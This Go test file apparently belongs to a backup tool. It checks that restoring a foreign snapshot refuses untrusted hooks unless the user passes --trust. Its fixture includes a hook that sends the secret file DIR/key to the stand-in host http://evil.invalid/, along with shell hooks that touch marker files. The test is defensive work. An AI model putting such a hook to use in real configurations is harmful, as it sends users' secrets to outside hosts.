package perform

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"cairn/agent/source/held"
	"cairn/agent/source/restore"
)

// Who writes to an archive writes the source files in it. What such a file wants to run, and which secrets it wants to send where, is refused unless
// somebody trusts it; a source file of this machine needs no consent for what it says itself, but parts that only the snapshot has do.
func TestForeign(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.write("data/a", "a")
	w.write("key", "a secret of this machine")
	const evil = `
source: app
parts:
  - {name: data, tree: {path: DIR/data}}
  - {name: list, command: {file: list.txt, run: [echo, list], restore: [sh, -c, "touch DIR/owned"]}}
restore:
  before:
    - {name: stop, shell: "touch DIR/stopped"}
    - {name: call, http: {url: "http://evil.invalid/", token: {file: DIR/key}}}
`
	s := w.run(w.parse(evil))
	origin, err := held.Open(t.Context(), w.a, s, "")
	check(t, err)
	kept, err := origin.Kept(nil)
	check(t, err)
	for name, c := range map[string]struct {
		o    restore.Options
		file string
		want string
	}{
		"kept": {restore.Options{Kept: true}, "", "hook stop runs touch DIR/stopped\nhook call runs POST http://evil.invalid/\nhook call reads the secret file DIR/key\n" +
			"part list runs sh -c touch DIR/owned"},
		"beside":        {restore.Options{Kept: true, To: w.dir + "/look"}, "", ""},
		"own":           {restore.Options{}, evil, ""},
		"own, one part": {restore.Options{}, "source: app\nparts: [{name: data, tree: {path: DIR/data}}]", "part list runs sh -c touch DIR/owned"},
	} {
		file := kept
		if c.file != "" {
			file = w.parse(c.file)
		}
		p := w.plan(s, file, c.o)
		if diff := cmp.Diff(w.text(c.want), strings.Join(p.Foreign(), "\n")); diff != "" {
			t.Errorf("%s: %s", name, diff)
		}
		refuses := slices.ContainsFunc(p.Refusals(), func(r restore.Refusal) bool { return r.Override == "--trust" && !r.Forced })
		if refuses != (c.want != "") {
			t.Errorf("%s: %+v", name, p.Refusals())
		}
		if c.want == "" {
			continue
		}
		if _, err := Execute(t.Context(), []*restore.Plan{p}, (&teller{}).tools(), nil); err == nil || w.read("stopped")+w.read("owned") != "" {
			t.Errorf("%s: it was run: %v", name, err)
		}
		p.Options.Trust = true
		if slices.ContainsFunc(p.Refusals(), func(r restore.Refusal) bool { return !r.Forced }) {
			t.Errorf("%s: trusted, and refused", name)
		}
	}
}
